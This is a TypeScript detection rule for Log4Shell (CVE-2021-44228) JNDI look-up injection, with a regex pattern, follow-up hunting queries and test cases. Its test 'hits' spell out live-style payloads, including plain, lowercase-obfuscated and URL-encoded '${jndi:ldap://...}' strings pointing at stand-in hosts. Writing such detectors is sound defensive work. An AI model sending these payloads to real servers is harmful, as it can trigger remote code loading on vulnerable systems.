import type { BuiltInRule } from '../built-in-rule';

const OPEN = String.raw`(\$|%24|%2524)(\{|%7b|%257b)`;
const LOOKUP = `${OPEN}(jndi|${OPEN}(lower|upper|env|sys|date|main|base64|::-)[^ ]{0,80}(j|n|d|i)|::-j)`;

/** As it would begin a placeholder here. */
const OPENED = '\u0024{';

export const lookupInjected: BuiltInRule = {
  kind: 'rule',
  name: 'lookup-injected',
  title: 'A look-up put into a request (Log4Shell)',
  about:
    'A request or a message holds a look-up of JNDI, plain or in pieces that a logger puts together (CVE-2021-44228).',
  level: 'high',
  confidence: 'high',
  types: ['application', 'network'],
  techniques: ['T1190'],
  matrix: ['MS-TA9004'],
  falsePositives:
    'Scanners of the internet, which send it to everybody: what counts is whether something went out afterwards.',
  next: [
    { title: 'All requests of the address', q: 'src_ip:"ADDRESS" | fields time, method, path, status, user_agent' },
    { title: 'Whom the pod talked to', q: 'type:network src_pod:"NAME" | count by dst_ip, dst_port, host' },
  ],
  q: `type:(application or network) (path:/${LOOKUP}/ or user_agent:/${LOOKUP}/ or referer:/${LOOKUP}/ or message:/${LOOKUP}/)`,
  by: ['src_ip', 'namespace', 'pod'],
  hits: [
    { type: 'network', fields: { path: `/?x=${OPENED}jndi:ldap://203.0.113.9/a}`, status: 404 } },
    { type: 'network', fields: { path: '/', user_agent: `${OPENED}${OPENED}lower:j}ndi:ldap://x/a}` } },
    { type: 'network', fields: { path: '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx' } },
  ],
  misses: [
    { type: 'network', fields: { path: '/docs/jndi?page=2', status: 200 } },
    { type: 'application', message: 'JNDI name java:comp/env/jdbc bound' },
  ],
};
